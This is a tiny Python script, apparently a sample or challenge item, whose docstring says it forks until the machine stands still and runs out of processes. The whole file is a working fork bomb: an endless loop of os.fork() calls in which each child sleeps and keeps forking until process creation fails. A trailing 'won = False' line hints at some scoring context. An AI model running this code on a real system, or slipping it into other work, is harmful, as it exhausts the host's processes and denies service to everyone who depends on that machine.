"""Forks until the machine stands still.

If it wins: the machine runs out of processes.
"""

import os
import time

while True:
    try:
        if os.fork() == 0:
            time.sleep(1000)
    except OSError:
        break
won = False
